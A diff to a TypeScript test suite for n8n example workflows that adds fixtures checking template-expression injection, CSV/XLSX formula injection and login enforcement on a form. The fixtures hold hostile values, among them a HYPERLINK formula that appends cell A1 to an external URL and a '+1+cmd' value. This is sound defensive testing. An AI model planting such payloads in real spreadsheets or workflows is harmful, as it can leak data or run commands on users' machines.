@@ -21,6 +21,40 @@ const ODD_SITE = {
 	units: [{ unitId: 1, unitName: 'Merd "å" > 1 $1', longitude: 5.5, latitude: 60 }],
 };
 
+/** A site whose names are the very expressions by which the mail is made. */
+const TEMPLATE_SITE = {
+	siteId: 1032,
+	siteName: '{{ $json.unitName }}',
+	units: [
+		{ unitId: 2, unitName: '{{ $json.unitId ?? "" }}', longitude: 5.25, latitude: 61 },
+		{
+			unitId: 3,
+			unitName: '}} {{ $json.siteName }} `${1}` \\ &lt;',
+			longitude: null,
+			latitude: null,
+		},
+	],
+};
+
+/** A site whose texts a spreadsheet program could take for formulas. */
+const FORMULA_SITE = {
+	siteId: 1033,
+	siteName: '=HYPERLINK("https://example.com?"&A1;"Storvågen")',
+	info: {
+		code: '+1+cmd',
+		type: '@SUM(A1)',
+		license: '-1+1',
+		timezone: '\t=1+1',
+		latitude: -44.5,
+		longitude: -73.25,
+		maxTotalBiomass: -1,
+	},
+	units: [{ unitId: 4, unitName: '=1+1', latitude: -44.5, longitude: -73.25 }],
+};
+
+/** The login that the form asks for. */
+const FORM_LOGIN = { user: 'farm', password: 'form-Passw0rd' };
+
 /** Sites of which some lack fields, with others in between. */
 const SITE_ROWS = [
 	['siteId', 'siteName', 'code', 'type', 'license', 'maxTotalBiomass', 'timezone'],
@@ -46,12 +80,23 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 	let credentials: INodeCredentials;
 
 	beforeAll(async () => {
-		emulator = await stage.keep(Emulator.start({ ...UNLIMITED, sites: [...SITES, ODD_SITE] }));
+		emulator = await stage.keep(
+			Emulator.start({
+				...UNLIMITED,
+				sites: [...SITES, ODD_SITE, TEMPLATE_SITE, FORMULA_SITE],
+			}),
+		);
 		mailServer = await stage.keep(MailServer.start());
-		n8n = await N8nInstance.start(stage, version);
+		// The form is then at the address of the editor, which looks whether it answers before it opens the window.
+		n8n = await N8nInstance.start(stage, version, { N8N_HOST: '127.0.0.1' });
 		const account = await n8n.createCredential({ baseUrl: emulator.baseUrl, ...DEMO_ACCOUNT });
 		const sender = await n8n.createCredential(mailServer.credential, 'smtp');
-		credentials = { ...credentialsOf(account), smtp: { id: sender, name: 'Mail account' } };
+		const login = await n8n.createCredential(FORM_LOGIN, 'httpBasicAuth');
+		credentials = {
+			...credentialsOf(account),
+			smtp: { id: sender, name: 'Mail account' },
+			httpBasicAuth: { id: login, name: 'Form login' },
+		};
 	}, 240_000);
 	beforeEach(() => {
 		emulator.reset();
@@ -89,9 +134,23 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 		await expect(readXlsx(content)).resolves.toEqual([{ sheet: 'Sites', data: rows }]);
 	});
 
+	// Of a formula, which a file stores without its equals sign, only the result would be read.
+	it('a name that looks like a formula is a text in the files of sites-to-xlsx and weekly-units-mail', async () => {
+		const siteIds = '1033';
+		const execution = await run('sites-to-xlsx', { 'Get Many Sites': { siteIds } });
+		await run('weekly-units-mail', { 'Get Units': { siteIds } });
+
+		const { content } = await fileOf(execution, 'Convert to XLSX');
+		const attached = mailServer.mails[0]?.attachments[0]?.content as ArrayBuffer;
+		for (const file of [content, Buffer.from(attached)]) {
+			const [sheet] = await readXlsx(file);
+			expect(sheet?.data[1]?.slice(0, 2)).toEqual([1033, FORMULA_SITE.siteName]);
+		}
+	});
+
 	it('weekly-units-mail mails a table of the units, and a file', async () => {
 		await run('weekly-units-mail', {
-			'Get Units': { siteIds: SITE_IDS },
+			'Get Units': { siteIds: `${SITE_IDS}, 1032` },
 			'Send Email': { fromEmail: 'farm@example.com', toEmail: 'a@example.com, b@example.com' },
 		});
 
@@ -119,6 +178,9 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 			['Jaula 1', '10230', '-44.0126', '-73.9107'],
 			['Jaula 2', '10231', '-44.0124', '-73.9098'],
 			['Jaula 3', '10232', '-44.0122', '-73.9089'],
+			[`${TEMPLATE_SITE.siteName} (1032)`],
+			[TEMPLATE_SITE.units[0]?.unitName, '2', '61', '5.25'],
+			[TEMPLATE_SITE.units[1]?.unitName, '3', '', ''],
 		]);
 		expect(mail?.html).not.toMatch(/<b>|<img|<style|undefined|null/);
 
@@ -138,6 +200,8 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 					[1023, 'Cañal "Ø" & søn, <test>', 10230, 'Jaula 1', -44.0126, -73.9107],
 					[1023, 'Cañal "Ø" & søn, <test>', 10231, 'Jaula 2', -44.0124, -73.9098],
 					[1023, 'Cañal "Ø" & søn, <test>', 10232, 'Jaula 3', -44.0122, -73.9089],
+					[1032, TEMPLATE_SITE.siteName, 2, TEMPLATE_SITE.units[0]?.unitName, 61, 5.25],
+					[1032, TEMPLATE_SITE.siteName, 3, TEMPLATE_SITE.units[1]?.unitName, null, null],
 				],
 			},
 		]);
@@ -147,13 +211,17 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 		let editor: Editor;
 
 		beforeAll(async () => {
-			editor = await Editor.open(stage, n8n);
+			editor = await Editor.open(stage, n8n, FORM_LOGIN);
 			await editor.openWorkflow(await importExample('csv-enriched'));
 		});
 
 		/** Uploads a file in the form that the button opens, and waits for the file that the browser downloads. */
 		const enrich = async (separator: string, csv: string) => {
 			const form = await editor.executeWithForm();
+			const withoutLogin = await Promise.all(
+				['GET', 'POST'].map(async (method) => await fetch(form.url(), { method })),
+			);
+			expect(withoutLogin.map(({ status }) => status)).toEqual([401, 401]);
 			await form.locator('input[type="file"]').setInputFiles({
 				name: 'My sites.csv',
 				mimeType: 'text/csv',
@@ -212,6 +280,37 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 				[
 					...['1004', 'Åse', 'mine', 'last line without a line break', 'Lille Grønnvik', 'LGV'],
 					...['N-V-0104', '1560', 'Europe/Oslo', '68.2283', '15.6412', '3', ''],
+				],
+			]);
+		});
+
+		it('writes no cell that begins a formula, and leaves numbers as they are', async () => {
+			const { text } = await enrich(
+				'Semicolon',
+				[
+					'siteId;=Heading;Change;Phone;Notes',
+					'1033;=1+1;-12,5;+47 400 12 345;- see A1',
+					'4040;+1+A1;+3.5;@me;"\r=1+1"',
+					"1001;\t=1+1;-;'quoted;1-1=0",
+				].join('\n'),
+			);
+
+			const [headings, ...rows] = parseCsv(text, { bom: true, delimiter: ';' });
+			expect(headings).toEqual(['siteId', `'=Heading`, 'Change', 'Phone', 'Notes', ...added]);
+			expect(rows).toEqual([
+				[
+					...['1033', `'=1+1`, '-12,5', '+47 400 12 345', `'- see A1`],
+					...[`'${FORMULA_SITE.siteName}`, `'+1+cmd`, `'@SUM(A1)`, `'-1+1`, '-1', `'\t=1+1`],
+					...['-44.5', '-73.25', '1', ''],
+				],
+				[
+					...['4040', `'+1+A1`, '+3.5', `'@me`, expect.stringMatching(/^'\s=1\+1$/)],
+					...Array<string>(9).fill(''),
+					'The service does not know site 4040',
+				],
+				[
+					...['1001', `'\t=1+1`, `'-`, `'quoted`, '1-1=0', 'Storvågen', 'STO', 'Sea'],
+					...['M-H-0101', '3120', 'Europe/Oslo', '63.5218', '8.4127', '8', ''],
 				],
 			]);
 		});
